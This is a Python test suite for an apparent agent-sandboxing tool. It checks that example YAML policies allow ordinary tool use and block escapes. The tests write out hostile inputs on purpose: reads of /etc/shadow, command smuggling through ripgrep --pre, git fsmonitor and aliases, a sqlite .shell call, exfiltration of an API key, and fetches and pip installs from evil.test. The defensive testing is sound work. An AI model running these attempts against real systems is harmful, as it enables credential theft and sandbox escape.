# SPDX-License-Identifier: GPL-2.0-or-later
"""docs/examples, as they stand there, with the programs that they are for."""
import glob
import json
import os
import shutil

import box as B
from box import check, modes, need_program

EXAMPLES = B.ROOT + "/docs/examples/"
CA = "/etc/ssl/certs/ca-certificates.crt"


def example(box, name):
    """The example in a directory of its own, with the workspace that it names."""
    path = shutil.copy(EXAMPLES + name, box.work + "/" + name)
    os.chmod(path, 0o644)
    box.project = box.work if "workspace: ./project" not in open(path).read() else box.directory("work/project")
    return path


def project_file(box, name, text, mode=0o644):
    return box.file(os.path.relpath(box.project, box.dir) + "/" + name, text, mode)


def tool(box, path, name, *args, **kw):
    """As the comments say: with sudo, or as oneself."""
    kw["env"] = dict(kw.pop("env", {}), **({"SUDO_UID": str(B.UID)} if box.starter == 0 else {}))
    return box.ctl("tool", "-p", path, name, "--", *args, **kw)


def venv(box):
    """~/venvs/agent, with a package in it."""
    home = box.directory("home")
    B.mount(home, B.HOME, flags=B.MS_BIND)
    box.at_end(lambda: B.umount(B.HOME))
    r = box.call([B.PYTHON, "-m", "venv", "--without-pip", B.HOME + "/venvs/agent"], timeout=50)
    check(r.rc == 0, r.tell())
    site = glob.glob(B.HOME + "/venvs/agent/lib/python3*/site-packages")[0]
    os.makedirs(site + "/wordpkg")
    B.write(site + "/wordpkg/__init__.py", "WORD = 'from the package'\n", 0o644)
    return site


def own_mounts():
    """This case is a process of its own; its mounts are, too."""
    check(B.libc.unshare(B.CLONE_NEWNS) == 0, "no mount namespace")
    B.mount(None, "/", flags=B.MS_REC | B.MS_PRIVATE)


# ---- without network -----------------------------------------------------------------------------

@modes("root", "user")
def test_examples_are_policies(box):
    """Each of them, and each is tested here."""
    own = open(__file__).read()
    names = sorted(os.path.basename(p) for p in glob.glob(EXAMPLES + "*.yaml"))
    check(len(names) >= 10, names)
    own_mounts()
    B.mount(B.BASE + "/bin", "/usr/local/bin", flags=B.MS_BIND)  # as installed
    venv(box)
    box.copy("/bin/true", "work/project/out/hello")
    for name in names:
        check('"%s"' % name in own, name, "has no test")
        path = example(box, name)
        r = box.ctl("policy", "check", path, env={"SUDO_UID": str(B.UID)})
        check(r.rc == 0 and not r.err, r.tell())


@modes("root")
def test_example_of_the_readme(box):
    """It is a policy, and the tool in it that needs no network does what it says."""
    text = open(B.ROOT + "/README.md").read().split("```yaml\n")[1].split("```")[0]
    path = box.file("work/agentfw.yaml", text.replace("alice", B.NAME))
    box.directory("work/out")
    box.file("work/words", "three little words\n", 0o644)
    r = box.ctl("policy", "check", path)
    check(r.rc == 0 and not r.err, r.tell())
    r = tool(box, path, "count", "words", cwd=box.work)
    check(r.rc == 0 and r.out.split()[0] == "3", r.tell())


@modes("root", "user")
def test_python(box):
    own_mounts()
    site = venv(box)
    extension = """
#define PY_SSIZE_T_CLEAN
#include <Python.h>
static struct PyModuleDef m = {PyModuleDef_HEAD_INIT, "compiled", NULL, -1, NULL};
PyMODINIT_FUNC PyInit_compiled(void) { return PyModule_Create(&m); }
"""
    have_headers = os.path.exists("/usr/include/" + os.path.basename(B.PYLIB))
    if have_headers:
        shutil.copy(B.compiled("compiled.so", extension, "-shared", "-fPIC",
                               "-I/usr/include/" + os.path.basename(B.PYLIB)), site + "/compiled.so")
    path = example(box, "python.yaml")
    project_file(box, "analyse.py", "import wordpkg, json, ssl, sqlite3, subprocess%s\nprint(wordpkg.WORD)\n"
                 "open('out/result', 'w').write('done')\n" % (", compiled" if have_headers else ""))
    os.chown(box.directory("work/project/out"), B.UID, B.GID)
    r = tool(box, path, "python", "analyse.py")
    check(r.rc == 0 and r.out == "from the package\n", r.tell())
    check(open(box.project + "/out/result").read() == "done", "nothing was written")
    for text in ("open('new', 'w')", "open('%s/venvs/agent/x', 'w')" % B.HOME, "open('/etc/shadow')",
                 "import urllib.request as u; u.urlopen('http://127.0.0.1/')",
                 "import subprocess; subprocess.run(['/usr/bin/id'], check=True)"):
        project_file(box, "bad.py", text)
        r = tool(box, path, "python", "bad.py")
        check(r.rc == 1 and "Error" in r.err, text, r.tell())


@modes("root", "user")
def test_node(box):
    need_program("node")
    path = example(box, "node.yaml")
    project_file(box, "node_modules/word/index.js", "module.exports = 'from the module';")
    project_file(box, "report.js", """
const word = require('word'), fs = require('fs'), crypto = require('crypto');
fs.writeFileSync('out/result', word);
new Promise(r => setTimeout(r, 5)).then(() => console.log(word, crypto.createHash('sha256').update('x').digest('hex').length));
""")
    box.directory("work/project/out")
    r = tool(box, path, "node", "report.js", timeout=50)
    check(r.rc == 0 and r.out == "from the module 64\n", r.tell())
    check(open(box.project + "/out/result").read() == "from the module", "nothing was written")
    project_file(box, "bad.js", "require('fs').writeFileSync('new', 'x')")
    r = tool(box, path, "node", "bad.js", timeout=50)
    check(r.rc == 1 and "EACCES" in r.err or "EROFS" in r.err, r.tell())
    project_file(box, "bad.js", "console.log(require('child_process').spawnSync('/usr/bin/id').error.code)")
    r = tool(box, path, "node", "bad.js", timeout=50)
    check(r.out == "EACCES\n", r.tell())


@modes("root", "user")
def test_search(box):
    need_program("rg")
    path = example(box, "search.yaml")
    project_file(box, "a/b.txt", "one\nTODO: two\n")
    r = tool(box, path, "search", "TODO|FIXME")
    check(r.rc == 0 and r.out == "./a/b.txt:2:TODO: two\n", r.tell())
    r = tool(box, path, "search", "nowhere")
    check(r.rc == 1 and not r.out, r.tell())
    # an option of ripgrep's that runs programs is a word to look for
    r = tool(box, path, "search", "--pre=/usr/bin/id")
    check(r.rc == 1 and not r.out, r.tell())


@modes("root", "user")
def test_convert(box):
    need_program("pandoc")
    path = example(box, "convert.yaml")
    project_file(box, "letter.md", "# Title\n\nSome *text*.\n")
    r = tool(box, path, "to-html", "letter.html", "letter.md", timeout=50)
    check(r.rc == 0, r.tell())
    check("<em>text</em>" in open(box.project + "/letter.html").read(), "no document")
    r = tool(box, path, "to-html", "letter.html", "/etc/passwd")
    check(r.rc == 125 and "workspace" in r.err, r.tell())


@modes("root", "user")
def test_compile(box):
    path = example(box, "compile.yaml")
    project_file(box, "hello.c", "#include <stdio.h>\n#include <math.h>\nint main(void) { puts(\"hello\"); return 0; }\n")
    box.directory("work/project/out")
    r = tool(box, path, "compile", "hello.c", timeout=50)
    check(r.rc == 0 and os.path.exists(box.project + "/out/hello"), r.tell())
    r = tool(box, path, "run")
    check(r.rc == 0 and r.out == "hello\n", r.tell())
    project_file(box, "bad.c", "#include \"/etc/shadow\"\n#include \"../../policy-1.yaml\"\n")
    r = tool(box, path, "compile", "bad.c", timeout=50)
    check(r.rc == 1 and "root:" not in r.err, r.tell())


@modes("root", "user")
def test_database(box):
    need_program("sqlite3")
    path = example(box, "database.yaml")
    db = box.project + "/data.db"
    r = box.call(["/usr/bin/sqlite3", db, "create table orders (n int); insert into orders values (7), (8)"])
    check(r.rc == 0, r.tell())
    r = tool(box, path, "query", "select sum(n) as n\nfrom orders")
    check(r.rc == 0 and json.loads(r.out) == [{"n": 15}], r.tell())
    for sql in ("delete from orders", ".shell id", "select readfile('/etc/passwd')", "attach '/tmp/x' as x"):
        r = tool(box, path, "query", sql)
        check(r.rc != 0 and "uid=" not in r.out and "root:" not in r.out, sql, r.tell())
    r = tool(box, path, "query", "select count(*) as n from orders")
    check(json.loads(r.out) == [{"n": 2}], r.tell())


# ---- with network --------------------------------------------------------------------------------

NAMES = ["api.example.com", "git.example.com", "api.anthropic.com", "pypi.org", "files.pythonhosted.org",
         "export.arxiv.org", "en.wikipedia.org"]


def internet(box):
    """The three namespaces of tests/net; the far end has all these names and a certificate for them."""
    import lab
    import servers
    import topo
    own_mounts()
    servers.CERT_NAMES += [n for n in NAMES if n not in servers.CERT_NAMES]
    pki = servers.Pki(box.directory("pki", 0))
    docroot = box.path("www")
    os.mkdir(docroot)
    servers.make_docroot(docroot)
    net = lab.Lab(pki, docroot)
    box.at_end(net.close)
    for name in NAMES:
        net.zone.set(name, topo.ALLOWED4, topo.ALLOWED6)
    B.mount(pki.ca, os.path.realpath(CA), flags=B.MS_BIND)
    B.mount(B.BASE + "/bin", "/usr/local/bin", flags=B.MS_BIND)  # as installed
    run_dir = box.directory("run", 0)

    def run(*argv, **kw):
        kw["env"] = {"SUDO_UID": str(B.UID), "AGENTFW_RUN_DIR": run_dir, **kw.pop("env", {})}
        kw.setdefault("timeout", 50)
        return box.call([*net.enter(), "/usr/local/bin/agentctl", *argv], uid=0, **kw)
    return net, run


def log_to(box, path):
    """The record beside the example; else the file is as it is."""
    with open(path, "a") as f:
        f.write("\naudit: {dir: %s}\n" % box.path("log"))


@modes("root")
def test_fetch(box):
    net, run = internet(box)
    path = example(box, "fetch.yaml")
    log_to(box, path)
    r = run("tool", "-p", path, "fetch", "--", "https://api.example.com/")
    check(r.rc == 0 and "hello" in r.out, r.tell())
    r = run("tool", "-p", path, "fetch", "--", "https://evil.test/")
    check(r.rc == 6 and "evil.test" in r.err, r.tell())
    for value in ("file:///etc/passwd", "-o/tmp/x", "https://u:p@api.example.com/"):
        r = run("tool", "-p", path, "fetch", "--", value)
        check(r.rc == 125, value, r.tell())


@modes("root")
def test_clone(box):
    net, run = internet(box)
    path = example(box, "clone.yaml")
    log_to(box, path)
    r = run("tool", "-p", path, "clone", "--", "https://git.example.com/repo.git", "repo")
    check(r.rc == 0 and open(box.work + "/repo/README").read() == "cloned through the fence\n", r.tell())
    check(os.stat(box.work + "/repo/.git/config").st_uid == B.UID, "it is not the user's")
    r = run("tool", "-p", path, "clone", "--", "https://evil.test/repo.git", "other")
    check(r.rc == 128 and "evil.test" in r.err, r.tell())


AGENT = """
import json, os, subprocess, sys, urllib.request, wordpkg
def tool(*words):
    r = subprocess.run(["agentctl", "tool", *words], capture_output=True, text=True)
    return {"rc": r.returncode, "out": r.stdout, "err": r.stderr}
def tried(fn):
    try: return [True, str(fn())[:200]]
    except Exception as e: return [False, str(e)[:200]]
def get(url): return urllib.request.urlopen(url, timeout=8).read().decode()[:100]
calls = json.load(open("calls.json")) if len(sys.argv) < 2 else json.loads(sys.argv[1])
answer = []
for c in calls:
    if c[0] == "tool": answer.append(tool(*c[1:]))
    elif c[0] == "get": answer.append(tried(lambda: get(c[1])))
    elif c[0] == "read": answer.append(tried(lambda: open(c[1]).read()))
    elif c[0] == "write": answer.append(tried(lambda: open(c[1], "w").write("x")))
    elif c[0] == "run": answer.append(tried(lambda: subprocess.run(c[1:], check=True)))
    elif c[0] == "env": answer.append(os.environ.get(c[1]))
print(json.dumps(answer))
"""


def agent_run(box, run, path, calls):
    r = run("run", "-p", path, "--log-dir", box.path("log"), "--", B.HOME + "/venvs/agent/bin/python3",
            box.project + "/agent.py", json.dumps(calls), env={"ANTHROPIC_API_KEY": "key", "SECRET": "x"}, cwd=box.work)
    check(r.rc == 0, r.tell())
    return json.loads(r.out.splitlines()[-1]), r


@modes("root")
def test_coding_agent(box):
    net, run = internet(box)
    venv(box)
    path = example(box, "coding-agent.yaml")
    for name in ("agent.py",):
        project_file(box, name, AGENT)
    project_file(box, "hello.c", "int main(void) { return 0; }\n")
    for cmd in (["init", "-q"], ["add", "."], ["-c", "user.name=x", "-c", "user.email=x", "commit", "-qm", "first"]):
        check(box.call(["/usr/bin/git", *cmd]).rc == 0, cmd)
    box.file("secret", "hunter2")
    calls = [["get", "https://api.anthropic.com/"], ["env", "ANTHROPIC_API_KEY"], ["write", "new.py"],
             ["tool", "search", "--", "int main"], ["tool", "git", "--", "add", "."],
             ["tool", "git", "--", "commit", "-qm", "second"], ["tool", "git", "--", "log", "--oneline"],
             ["tool", "python", "--", "-c", "print(6 * 7)"], ["tool", "node", "--", "-e", "console.log(42)"],
             ["tool", "cc", "--", "hello.c", "-o", "hello"], ["tool", "pip-install", "--", "tinypkg"]]
    got, r = agent_run(box, run, path, calls)
    check(got[0][0] and got[1] == "key" and got[2][0], got)
    for call, answer in zip(calls[3:], got[3:]):
        check(answer["rc"] == 0, call, answer)
    check("hello.c:1:" in got[3]["out"], got[3])
    check(len(got[6]["out"].splitlines()) == 2, got[6])
    check(got[7]["out"] == "42\n" and got[8]["out"] == "42\n", got)
    check(os.path.exists(box.work + "/.packages/tinypkg.py") and os.path.exists(box.work + "/hello"), os.listdir(box.work))
    calls = [["get", "https://evil.test/"], ["env", "SECRET"], ["write", ".vscode"], ["write", ".git/config"],
             ["write", "coding-agent.yaml"], ["read", box.path("secret")], ["run", "/usr/bin/id"], ["run", "./hello"],
             ["tool", "python", "--", "-c", "import socket; socket.create_connection(('%s', 443), 3)" % "203.0.113.10"],
             ["tool", "python", "--", "-c", "import os; print(os.environ['ANTHROPIC_API_KEY'])"],
             ["tool", "git", "--", "config", "core.fsmonitor", "id"],
             ["tool", "git", "--", "-c", "alias.x=!id", "x"],
             ["tool", "pip-install", "--", "--index-url=https://evil.test/"]]
    got, r = agent_run(box, run, path, calls)
    check(got[1] is None, got)
    for call, answer in zip(calls, got):
        if answer is not None:
            check(answer[0] is False if isinstance(answer, list) else answer["rc"] != 0, call, answer)
            check("uid=" not in str(answer) and "hunter2" not in str(answer), call, answer)


@modes("root")
def test_research_agent(box):
    net, run = internet(box)
    venv(box)
    path = example(box, "research-agent.yaml")
    project_file(box, "agent.py", AGENT)
    project_file(box, "papers/a.txt", "a paper")
    calls = [["get", "https://api.anthropic.com/"], ["read", "papers/a.txt"],
             ["tool", "fetch", "--", "https://export.arxiv.org/"]]
    got, r = agent_run(box, run, path, calls)
    check(got[0][0] and got[1] == [True, "a paper"] and got[2]["rc"] == 0 and "hello" in got[2]["out"], got)
    calls = [["get", "https://export.arxiv.org/"], ["write", "papers/a.txt"], ["write", "new"],
             ["read", "/etc/shadow"], ["run", "/usr/bin/curl", "--version"],
             ["tool", "fetch", "--", "https://evil.test/"], ["tool", "fetch", "--", "http://export.arxiv.org/"]]
    got, r = agent_run(box, run, path, calls)
    for call, answer in zip(calls, got):
        check(answer[0] is False if isinstance(answer, list) else answer["rc"] != 0, call, answer)
